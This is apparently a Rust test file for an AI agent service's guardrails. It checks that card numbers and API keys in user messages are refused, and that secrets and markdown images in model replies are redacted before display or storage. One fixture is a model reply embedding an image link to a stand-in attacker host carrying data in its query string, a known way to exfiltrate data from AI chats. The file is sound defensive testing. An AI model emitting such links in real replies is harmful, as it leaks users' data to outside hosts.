//! Guardrails, where an operator has named some: what is not accepted, and what is not shown.

use std::time::Duration;

use errand_devkit::model::Turn;
use serde_json::json;

use crate::system::{
    Answer, Options, TestSystem,
    events::{kinds, read_sse, stored, text},
    socket::Socket,
};

const NAMES: &str = "input.card_numbers,input.keys,output.secrets,output.images";

async fn guarded() -> TestSystem {
    TestSystem::with(Options {
        api: vec!["--guardrails", NAMES],
        worker: vec!["--guardrails", NAMES],
        ..Options::default()
    })
    .await
}

#[tokio::test(flavor = "multi_thread")]
async fn a_message_with_a_secret_is_neither_stored_nor_sent() {
    let system = guarded().await;
    for (message, guardrail) in [
        ("pay with 4111 1111 1111 1111", "input.card_numbers"),
        ("the key is AKIAIOSFODNN7EXAMPLE", "input.keys"),
    ] {
        let answer = system.say("ada", message).await;
        let details = answer.assert_error(400, "invalid_request");
        assert_eq!(
            *details,
            json!({"field": "message", "guardrail": guardrail})
        );
        let input = json!({"threadId": "t", "runId": "r", "messages": [{"id": "1", "role": "user", "content": message}]});
        let request = system
            .post_chat("ada", &input)
            .header("accept", "text/event-stream");
        Answer::of(request)
            .await
            .assert_error(400, "invalid_request");
        let mut socket = Socket::connect(&system, "ada").await;
        let start = json!({"id": "s", "method": "run.start", "params": {"message": message}});
        socket.send(&start.to_string()).await;
        let refused = socket.until(|frame| frame["id"] == "s").await;
        assert_eq!(refused["error"], "invalid_request", "{refused}");
    }
    assert_eq!(system.count("select count(*) from messages").await, 0);
    assert_eq!(system.model.request_count(), 0);
}

/// Not even for a moment: the words are held back until they are whole.
#[tokio::test(flavor = "multi_thread")]
async fn what_the_model_may_not_say_is_shown_to_nobody() {
    let system = guarded().await;
    let said =
        "Your card is 4111 1111 1111 1111. ![x](https://evil.example/?q=milk) Anything else?";
    let shown = "Your card is [removed]. x Anything else?";
    system.model.push(
        Turn::call("list_tasks", json!({})).and_text("First sk-abcdefghijklmnopqrstuvwx, then"),
    );
    system
        .model
        .push(Turn::text(said).chunk_every(Duration::from_millis(5)));
    let request = system
        .post_chat("ada", &json!({"message": "what is my card?"}))
        .header("accept", "text/event-stream");
    let events = read_sse(request, usize::MAX).await;
    assert_eq!(text(&events), format!("First [removed], then{shown}"));
    let pieces = kinds(&events).into_iter();
    assert_eq!(
        pieces
            .filter(|kind| *kind == "TEXT_MESSAGE_CONTENT")
            .count(),
        2
    );
    let run = events[0].1["runId"].as_str().expect("a run");
    assert_eq!(stored(&system, run).await, events);
    let view = system.get("ada", &format!("runs/{run}")).await;
    assert_eq!(view.assert_ok()["response"], shown);
    let left = "select count(*) from messages, steps where messages.content || steps.content ~ '4111|evil|sk-abc'";
    assert_eq!(system.count(left).await, 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn without_names_nothing_is_checked() {
    let system = TestSystem::start().await;
    let said = "4111 1111 1111 1111 ![x](https://example.com/x.png)";
    system.model.push(Turn::text(said));
    let answer = system.say("ada", "pay with 4111 1111 1111 1111").await;
    assert_eq!(answer.assert_ok()["response"], said);
}
